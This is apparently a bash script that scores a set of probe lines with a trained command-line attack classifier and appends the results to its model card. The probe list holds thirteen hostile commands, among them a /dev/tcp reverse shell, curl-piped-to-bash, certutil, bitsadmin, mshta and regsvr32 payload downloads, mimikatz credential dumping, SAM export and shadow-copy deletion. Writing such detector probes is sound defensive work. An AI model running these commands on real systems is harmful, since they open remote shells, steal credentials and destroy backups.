#!/usr/bin/env bash
# Append a "Probe lines" table to a model card: the scores of a few well-known attack lines and
# ordinary lines, so that readers see what the model does on lines they can judge themselves.
# Called by scripts/train_shipped_model.sh. Usage: scripts/shipped_model_probes.sh MODEL_DIR WORK_DIR
set -euo pipefail
cd "$(dirname "$0")/.."
ROOT="$(pwd)"
MODEL=$1 WORK=$2
BIN=${CARGO_TARGET_DIR:-$ROOT/target}/release/longtail
# Attacks first (ATTACKS of them), then ordinary, installer and admin lines, then one dual-use line.
ATTACKS=13
cat > "$WORK/probes.txt" <<'LINES'
vssadmin.exe delete shadows /all /quiet
reg save HKLM\SAM C:\Windows\Temp\sam.save
certutil -urlcache -f http://x/a.exe a.exe
certutil.exe -urlcache -split -f http://198.51.100.7/payload.exe C:\Users\Public\p.exe
powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA
mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit
bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
curl -s http://203.0.113.9/x.sh | bash
certutil -urlcache -split -f http://1.2.3.4/a.exe a.exe
bitsadmin /transfer job /download /priority high http://203.0.113.9/a.exe C:\Users\Public\a.exe
regsvr32 /s /n /u /i:http://203.0.113.9/file.sct scrobj.dll
mshta http://203.0.113.9/payload.hta
powershell -enc SQBFAFgA
ls -la
git status
cd ~/projects && make test
tar -xzf archive.tar.gz -C /opt
python3 -m pip install --upgrade requests
grep -rn TODO src/
choco install -y git
msiexec.exe /i "C:\Temp\GoogleChromeStandaloneEnterprise64.msi" /qn /norestart
"C:\Users\ci\AppData\Local\Temp\chocolatey\7zip\7z2301-x64.exe" /S
Get-Service -Name wuauserv | Set-Service -StartupType Automatic
New-NetFirewallRule -DisplayName "Allow WinRM HTTPS" -Direction Inbound -LocalPort 5986 -Protocol TCP -Action Allow
java -Xmx4g -XX:+UseG1GC -Dlog4j2.formatMsgNoLookups=true -jar /opt/app/service.jar --spring.profiles.active=prod
Set-ItemProperty -Path 'HKLM:\SYSTEM\CurrentControlSet\Control\Terminal Server' -Name fDenyTSConnections -Value 0
LINES
"$BIN" -q --device flex classify --model "$MODEL" "$WORK/probes.txt" -o "$WORK/probes.jsonl"
python3 - "$MODEL" "$WORK/probes.jsonl" "$ATTACKS" <<'PY'
import json, sys
model, probes, attacks = sys.argv[1], sys.argv[2], int(sys.argv[3])
rows = [json.loads(l) for l in open(probes)]
thr = json.load(open(f"{model}/threshold.json"))["threshold"]
card = open(f"{model}/README.md").read()
card = card.split("\n## Probe lines\n")[0].rstrip("\n") + "\n"
card += f"""
## Probe lines

Scores of lines anyone can judge (`scripts/shipped_model_probes.sh`): {attacks} attacks, then
{len(rows) - attacks - 1} ordinary, installer and admin lines, then a dual-use admin line (enabling RDP,
also an ATT&CK test). Flagged = score >= the stored threshold {thr:.4f}.

| line | score | flagged |
|---|---|---|
"""
for r in rows:
    cmd = r["cmd"].replace("|", "\\|")
    card += f"| `{cmd}` | {r['score']:.3f} | {'yes' if r['score'] >= thr else 'no'} |\n"
bad = rows[:attacks]
good = rows[attacks:-1]
flagged = sum(r["score"] >= thr for r in bad)
false = sum(r["score"] >= thr for r in good)
ranked = sum(a["score"] > g["score"] for a in bad for g in good) / (len(bad) * len(good))
card += f"""
At the stored threshold (set for FPR 1e-3 on validation lines) {flagged} of the {attacks} attacks
and {false} of the {len(good)} ordinary lines are flagged; an attack outscores an ordinary line in
{100 * ranked:.0f} % of the pairs (the probes' AUC). The malicious training lines are Atomic Red
Team and CALDERA tests (permissive licenses only: LOLBAS and GTFOBins are GPL), so short
living-off-the-land lines written differently from those tests can still score low. Measure on
your own lines with `longtail evaluate` and augment before relying on it.
"""
open(f"{model}/README.md", "w").write(card)
PY
